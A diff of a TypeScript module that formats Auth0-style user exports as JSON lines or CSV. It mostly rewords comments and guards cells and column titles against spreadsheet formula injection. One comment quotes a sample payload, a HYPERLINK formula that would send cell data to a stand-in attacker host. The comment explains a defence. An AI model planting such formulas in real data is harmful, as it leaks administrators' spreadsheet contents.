@@ -1,11 +1,12 @@
 /**
- * Users as the lines of an export: newline-delimited JSON, or CSV by RFC 4180 as Auth0 writes it ("Bulk user exports"). Takes a user as the
- * Management API shows them, so no line can say more than `GET /users` does, and none has a password hash. No I/O.
+ * Users as lines of an export: newline-delimited JSON, or CSV by RFC 4180 as Auth0 writes it ("Bulk user exports").
+ * Takes a user as the Management API shows them, so no line says more than `GET /users`, and none has a password hash.
+ * No I/O.
  */
 import type { UserExportField, UserExportFormat } from '../../ports/directory/user-exports.js';
 import type { Wire } from '../api/operation.js';
 
-/** The fields of an export that names none: Auth0's normalized profile, and the two times. */
+/** Default fields of an export: Auth0's normalized profile, and the two times. */
 const USUAL_FIELDS: readonly UserExportField[] = [
   'user_id',
   'email',
@@ -22,10 +23,10 @@ const USUAL_FIELDS: readonly UserExportField[] = [
 /** Times that this server wrote: no person chooses their text. */
 const OWN_TIMES: ReadonlySet<string> = new Set(['created_at', 'updated_at', 'last_login']);
 
-/** `identities[0].connection` as `identities`, `0`, `connection`. */
+/** Converts `identities[0].connection` into `identities`, `0`, `connection`. */
 const toPath = (name: string): readonly string[] => name.replace(/\[(\d{1,4})\]/g, '.$1').split('.');
 
-/** The value at a path, or undefined. Own properties alone: `constructor` is no field of a user. */
+/** Returns the value at a path, or undefined. Reads only own properties: `constructor` is no field of a user. */
 function valueAt(user: Wire, path: readonly string[]): unknown {
   let value: unknown = user;
   for (const step of path) {
@@ -38,9 +39,9 @@ function valueAt(user: Wire, path: readonly string[]): unknown {
 const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
 
 /**
- * A text of a user as a cell. Attack stopped here: formula injection (OWASP "CSV Injection") by a person who calls themselves
- * `=HYPERLINK("https://evil.example/?"&A1)`, whose name a spreadsheet of the administrator would run. As at Auth0, each text begins with a
- * single quote, so that what a reader has to take away does not depend on the text.
+ * Returns a user's text as a cell. Attack: formula injection (OWASP "CSV Injection") by a person named
+ * `=HYPERLINK("https://evil.example/?"&A1)`, which the administrator's spreadsheet would run. As at Auth0, every text
+ * begins with a single quote, so that readers can remove it without looking at the text.
  */
 const toTextCell = (text: string) => quoted(`'${text}`);
 
@@ -51,20 +52,23 @@ function toCell(name: string, value: unknown): string {
   return OWN_TIMES.has(name) ? value : toTextCell(value);
 }
 
-/** The title of a column: as it was asked for, unless a spreadsheet would run it. */
+/** Returns the title of a column, quoted if a spreadsheet would run it. */
 function toTitle(title: string): string {
   const inert = /^[=+\-@\t\r\n]/.test(title) ? `'${title}` : title;
   return /[",\r\n]/.test(inert) ? quoted(inert) : inert;
 }
 
-/** The lines of a file, each with its end. */
+/** The lines of a file, each with its line end. */
 export interface ExportLines {
-  /** Comes before all lines; empty for JSON. */
+  /** The text before all lines; empty for JSON. */
   readonly head: string;
   toLine(user: Wire): string;
 }
 
-/** The lines of the fields that were asked for; undefined or none: the usual ones. A field that a user lacks is left out, or an empty cell. */
+/**
+ * Returns the lines for the requested fields, by default the usual ones. A field that a user lacks is omitted, or an
+ * empty cell.
+ */
 export function createExportLines(format: UserExportFormat, asked: readonly UserExportField[] = []): ExportLines {
   const columns = (asked.length > 0 ? asked : USUAL_FIELDS).map(({ name, exportAs }) => ({
     name,
